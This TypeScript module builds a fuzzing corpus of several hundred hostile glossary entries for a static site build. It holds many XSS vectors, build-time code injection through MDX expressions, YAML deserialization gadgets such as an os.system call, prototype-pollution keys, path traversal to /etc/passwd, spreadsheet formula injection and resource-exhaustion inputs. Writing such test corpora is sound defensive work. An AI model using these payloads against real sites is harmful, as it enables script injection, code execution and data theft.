/** Entries of somebody who wants the site, its readers or the machine that builds it to do something else. */
import { inputAttacks, type InputAttack } from './input-attacks.ts';

export interface Attack {
  name: string;
  /** A whole entry file. */
  file: string | Uint8Array;
}

/** What the attacks try to run: it would mark the page, call home, or write a file while the site is built. */
export interface Payloads {
  browser: string;
  build: string;
  /** An address of another origin. */
  home: string;
}

/** At least four hundred files, always the same ones in the same order. */
export function attacks(payloads: Payloads): Attack[] {
  return [
    ...programs(payloads).map((body, index) => bodyAttack(`program ${index}`, body)),
    ...markup(payloads).map((body, index) => bodyAttack(`markup ${index}`, body)),
    ...addresses(payloads).flatMap((address, index) => addressAttacks(address, index)),
    ...wrappers(payloads).map((body, index) => bodyAttack(`wrapper ${index}`, body)),
    ...texts(payloads).flatMap((text, index) => textAttacks(text, index)),
    ...matters().map((matter, index) => ({ name: `frontmatter ${index}`, file: `---\n${matter}\n---\n\nText.\n` })),
    ...shapes().map((body, index) => bodyAttack(`shape ${index}`, body)),
    ...bytes(),
    ...inputAttacks().map((attack, index) => ({ name: attack.name, file: inputEntry(attack, index) })),
  ];
}

/** MDX and JavaScript. */
function programs({ build, browser }: Payloads): string[] {
  return [
    `import fs from 'node:fs'`,
    `import x from 'data:text/javascript,${build}'`,
    `import '../../hostile/evil.mjs'`,
    `export const a = (() => { ${build} })()`,
    `export default function () { ${build} }`,
    `export { readFileSync } from 'node:fs'`,
    `export const getStaticPaths = () => { ${build} }`,
    `{${build}}`,
    `{(() => { ${build} })()}`,
    `Text {process.env.HOME} text`,
    'Text {`${process.env.HOME}`} text',
    `{globalThis.constructor.constructor("${browser}")()}`,
    `{/* comment */ process.exit(0)}`,
    `{"text" + process.env.PATH}`,
    `{await import('node:fs')}`,
    `{new Function("${browser}")()}`,
    `{...globalThis}`,
    `{[].constructor.constructor('${browser}')()}`,
    `<Callout type={(() => { ${build} })()}>x</Callout>`,
    `<Callout {...globalThis}>x</Callout>`,
    `<Callout type="note" {...{onClick: 1}}>x</Callout>`,
    `<Faq question={process.env.HOME}>x</Faq>`,
    `<Formula expression={\`\${process.env.HOME}\`} />`,
    `<Figure src={require('node:fs')} alt="x" />`,
    `<Callout.constructor>x</Callout.constructor>`,
    `<__proto__ />`,
    `<constructor>x</constructor>`,
    `<Fragment set:html="<script>${browser}</script>" />`,
    `<Astro.self />`,
    `<Code code="x" />`,
    `<slot />`,
    `<></>`,
    `<>{1}</>`,
    `---\nconst x = 1\n---`,
  ];
}

/** HTML, in every case and encoding. */
function markup({ browser, home }: Payloads): string[] {
  const script = `<script>${browser}</script>`;
  return [
    script,
    script.toUpperCase(),
    `<ScRiPt>${browser}</sCrIpT>`,
    `<script src="${home}x.js"></script>`,
    `<script type="module">${browser}</script>`,
    `<script/x>${browser}</script>`,
    `<script\n>${browser}</script\n>`,
    `<scr<script>ipt>${browser}</scr</script>ipt>`,
    `\\<script>${browser}\\</script>`,
    `&lt;script&gt;${browser}&lt;/script&gt;`,
    `&#60;script&#62;${browser}&#60;/script&#62;`,
    `&#x3C;img src=x onerror=${browser}&#x3E;`,
    `<img src=x onerror="${browser}">`,
    `<img src=x onerror="${browser}" />`,
    `<IMG SRC=x OnErRoR="${browser}" />`,
    `<img src="${home}pixel.png" />`,
    `<svg onload="${browser}" />`,
    `<svg><script>${browser}</script></svg>`,
    `<svg><animate onbegin="${browser}" attributeName="x" /></svg>`,
    `<math><mtext></mtext></math>`,
    `<iframe src="${home}"></iframe>`,
    `<iframe srcdoc="<script>${browser}</script>" />`,
    `<object data="${home}" />`,
    `<embed src="${home}" />`,
    `<link rel="stylesheet" href="${home}x.css" />`,
    `<meta http-equiv="refresh" content="0;url=${home}" />`,
    `<base href="${home}" />`,
    `<form action="${home}"><button>x</button></form>`,
    `<input autofocus onfocus="${browser}" />`,
    `<details open ontoggle="${browser}">x</details>`,
    `<body onload="${browser}">`,
    `<video src="${home}x.mp4" autoplay />`,
    `<audio src="${home}x.mp3" autoplay />`,
    `<a href="https://example.org" onclick="${browser}">x</a>`,
    `<style>body {'{'}background: url(${home}x.png){'}'}</style>`,
    `<p style="background: url(${home}x.png)">x</p>`,
    `<div style={{background: 'url(${home}x.png)'}}>x</div>`,
    `<template shadowrootmode="open"><script>${browser}</script></template>`,
    `<!-- ${script} -->`,
    `<!-->${script}-->`,
    `<![CDATA[${script}]]>`,
    `<?xml version="1.0"?>`,
    `<!DOCTYPE html>`,
    `<noscript>${script}</noscript>`,
    `<textarea>${script}</textarea>`,
    `<title>${script}</title>`,
    `<x-element onclick="${browser}">x</x-element>`,
  ];
}

/** Addresses that are no addresses, in every disguise that a browser takes off. */
function addresses({ browser, home }: Payloads): string[] {
  return [
    `javascript:${browser}`,
    `JaVaScRiPt:${browser}`,
    ` javascript:${browser}`,
    `java\tscript:${browser}`,
    `java\u0000script:${browser}`,
    `\u0001javascript:${browser}`,
    `&#106;avascript:${browser}`,
    `&#x6A;avascript&colon;${browser}`,
    `javascript&#58;${browser}`,
    `%6Aavascript:${browser}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${browser}</script>`,
    `data:text/html;base64,PHNjcmlwdD4=`,
    `DATA:image/svg+xml,<svg onload="${browser}"/>`,
    `file:///etc/passwd`,
    `//evil.example/x`,
    `\\\\evil.example\\x`,
    `https:evil.example`,
    `https://user:password@evil.example/`,
    `${home}%0d%0aSet-Cookie:x`,
    `../../../../etc/passwd`,
    `..%2f..%2f..%2fetc/passwd`,
    `/etc/passwd`,
    `kam.mdx#"><script>${browser}</script>`,
    `https://example.org/"onmouseover="${browser}`,
    `https://example.org/' onmouseover='${browser}`,
    `https://example.org/><script>${browser}</script>`,
    `blob:https://example.org/x`,
    `filesystem:https://example.org/x`,
    `about:blank`,
    `intent://x#Intent;end`,
    `mailto:a@example.org?body=<script>${browser}</script>`,
  ];
}

/** Markdown and tags that try to close what the page puts around them. */
function wrappers({ browser }: Payloads): string[] {
  const script = `<script>${browser}</script>`;
  return [
    `</div></article></main>${script}`,
    `</Faq>${script}`,
    `<Faq question="A?">\n\n</Faq></section>${script}\n\n</Faq>`,
    `<Callout>\n\nx`,
    `</Callout>`,
    '```html\n</code></pre><script>' + browser + '</script>\n```',
    '`</code><script>' + browser + '</script>`',
    `| a |\n| - |\n| </td></table>${script} |`,
    `[^x]\n\n[^x]: </li></ol>${script}`,
    `# </h1>${script}`,
    `> </blockquote>${script}`,
    `<Faq question="</script>${script}">\n\nx\n\n</Faq>`,
    `<Faq question='"><img src=x onerror="${browser}">?'>\n\nx\n\n</Faq>`,
    `<Callout title="</aside>${script}">\n\nx\n\n</Callout>`,
    `<Formula expression="</figure>${script}" />`,
    `<Formula label='" onclick="${browser}' expression="x" />`,
    `{"</p><script>${browser}</script>"}`,
    `{'</script><!-- <script>'}`,
    `## {"</h2>"}\`</h2>\``,
    `[a]: javascript:${browser}\n\n[a]`,
    `![a][b]\n\n[b]: data:text/html,x`,
    `<https://example.org/"onclick="${browser}>`,
    `https://example.org/"onclick="${browser}`,
    `www.example.org/<script>`,
  ];
}

/** Plain text that is dangerous to write into HTML, attributes, JSON-LD, feeds, spreadsheets or a terminal. */
function texts({ browser }: Payloads): string[] {
  return [
    `</script><script>${browser}</script>`,
    `</script><!-- <script>`,
    `"><img src=x onerror=${browser}>`,
    `' onmouseover='${browser}`,
    `\u2028${browser}\u2029`,
    ']]><x>',
    '&quot;&lt;script&gt;',
    '=cmd|"/C calc"!A0',
    '@SUM(1+1)*cmd',
    '\u202Eevil\u202C gnirts',
    '\u2066isolate\u2069',
    '$' + '{process.env.HOME}',
    '{{constructor.constructor("x")()}}',
    '<%= x %>',
    '%3Cscript%3E',
    '../../../etc/passwd',
    '__proto__',
    'constructor',
    'toString',
    '\\u003cscript\\u003e',
    'a'.repeat(250) + '<b>',
    '🏴‍☠️'.repeat(40),
    'Z\u0351\u036B\u0343\u036A\u0302'.repeat(20),
  ];
}

/** Frontmatter that is more than frontmatter. */
function matters(): string[] {
  const rest = 'definition: A thing.\npublished: 2026-01-01';
  return [
    `__proto__: {polluted: yes}\nterm: T\n${rest}`,
    `"__proto__": {polluted: yes}\nterm: T\n${rest}`,
    `constructor: {prototype: {polluted: yes}}\nterm: T\n${rest}`,
    `term: T\n${rest}\ntranslations: {__proto__: x}`,
    `term: T\n${rest}\ntranslations: {constructor: x, toString: y}`,
    `term: !!js/function "function () {}"\n${rest}`,
    `term: !!js/regexp /x/\n${rest}`,
    `term: !!binary aGk=\n${rest}`,
    `term: !!python/object/apply:os.system ["id"]\n${rest}`,
    `a: &a [x,x,x]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\nterm: T\n${rest}\ntopics: [*c, *c]`,
    `x: &x {<<: *x}\nterm: T\n${rest}`,
    `term: T\n<<: {definition: x}\npublished: 2026-01-01`,
    `term: T\n${rest}\nslug: ../../../etc/passwd`,
    `term: T\n${rest}\nredirectFrom: [../../evil]`,
    `term: T\n${rest}\nredirectFrom: ["a/b", "con", ".."]`,
    `term: T\n${rest}\nrelated: [../x, __proto__]`,
    `term: T\n${rest}\nrelated: [__proto__, constructor, hasOwnProperty]`,
    `term: T\n${rest}\ntopics: [__proto__]`,
    `term: T\n${rest}\nlayout: ../../../layouts/Evil.astro`,
    `term: T\n${rest}\nsources: [{id: "x\\"onclick=", title: x}]`,
    `term: [[[[[[[[[[[[[[[[[[x]]]]]]]]]]]]]]]]]]\n${rest}`,
    `term: ${'['.repeat(5000)}\n${rest}`,
    `? {complex: key}\n: x\nterm: T\n${rest}`,
    `term: T\ndefinition: "\\0\\x07\\x1b[31mred"\npublished: 2026-01-01`,
    `term: T\ndefinition: A thing.\npublished: 9999-99-99`,
    `term: T\n${rest}\nreplacedBy: javascript:alert(1)\nstatus: deprecated`,
    `term: |\n  T\n  <script>\n${rest}`,
  ];
}

/** Text whose shape costs time or memory. */
function shapes(): string[] {
  return [
    '*'.repeat(20_000),
    '_a'.repeat(20_000),
    '['.repeat(5_000),
    '![['.repeat(5_000),
    '`'.repeat(20_001),
    '> '.repeat(2_000) + 'x',
    '- '.repeat(500) + 'x',
    '<Callout>\n\n'.repeat(300),
    '<a'.repeat(10_000),
    '{'.repeat(10_000),
    '\\'.repeat(20_001),
    '&'.repeat(20_000),
    '&#x'.repeat(10_000),
    'a@'.repeat(10_000) + 'example.org',
    'http://'.repeat(5_000),
    `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n|${'x|'.repeat(2_000)}`,
    Array.from({ length: 5_000 }, (_, index) => `[^${index}]`).join(' '),
    Array.from({ length: 2_000 }, (_, index) => `## Heading ${index % 3}`).join('\n\n'),
    `${'a '.repeat(50_000)}!`,
    ' '.repeat(50_000) + 'x',
    'x\n'.repeat(20_000),
    'ab'.repeat(30_000) + '!',
    '1. '.repeat(1_000),
    '~~'.repeat(10_000),
  ];
}

/** Files that are no text. */
function bytes(): Attack[] {
  const good = entry({ body: 'Text.' });
  return [
    { name: 'bytes: nothing', file: '' },
    { name: 'bytes: zeros', file: new Uint8Array(5_000) },
    { name: 'bytes: invalid UTF-8', file: new Uint8Array([...Buffer.from(good), 0xff, 0xfe, 0xc0, 0x80]) },
    { name: 'bytes: UTF-16', file: Buffer.from(`\ufeff${good}`, 'utf16le') },
    { name: 'bytes: a program', file: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]) },
    { name: 'bytes: control characters', file: entry({ body: '\u0000\u0007\u001b[31mred\u001b[0m' }) },
    { name: 'bytes: lone surrogates', file: entry({ body: '\\ud800 \ud83d' }) },
  ];
}

function bodyAttack(name: string, body: string): Attack {
  return { name, file: entry({ body }) };
}

function addressAttacks(address: string, index: number): Attack[] {
  const quoted = JSON.stringify(address);
  return [
    bodyAttack(`address ${index}, link`, `[x](<${address}>) and [y](${address} "z").`),
    bodyAttack(`address ${index}, picture`, `![x](<${address}>)\n\n<Figure src=${quoted} alt="x" />`),
    {
      name: `address ${index}, source`,
      file: entry({ more: `sources: [{id: s, title: S, url: ${quoted}}]`, body: 'x[^s]' }),
    },
    { name: `address ${index}, sameAs`, file: entry({ more: `sameAs: [${quoted}]`, body: 'x' }) },
  ];
}

function textAttacks(text: string, index: number): Attack[] {
  const quoted = JSON.stringify(text);
  return [
    { name: `text ${index}, term`, file: entry({ term: JSON.stringify(`${text} ${index}`), body: 'x' }) },
    {
      name: `text ${index}, everywhere else`,
      file: entry({
        definition: quoted,
        more: `aliases: [${JSON.stringify(`${text} alias ${index}`)}]\ntakeaways: [${quoted}]\nsources: [{id: s, title: ${quoted}}]`,
        body: `{${quoted}}[^s]\n\n<Faq question={${JSON.stringify(`${text}?`)}}>\n\n{${quoted}}\n\n</Faq>`,
      }),
    },
  ];
}

/** An entry that would be sound without its attack. Terms differ, so that one attack does not hide another. */
function entry({ term = '', definition = 'Something.', more = '', body = '' }): string {
  return `---\nterm: ${term === '' ? 'TERM' : term}\ndefinition: ${definition}\npublished: 2026-01-01\nautolink: false\n${more}${more === '' ? '' : '\n'}---\n\n${body}\n`;
}

/** Terms and other names differ where the attack is not in them. */
function inputEntry({ fields = {}, body = 'x' }: InputAttack, index: number): string {
  const own = { term: `Input ${index}`, definition: 'Something.', published: '2026-01-01', autolink: 'false' };
  const lines = Object.entries({ ...own, ...fields }).map(([name, value]) => `${name}: ${value}`);
  return `---\n${lines.join('\n')}\n---\n\n${body}\n`;
}
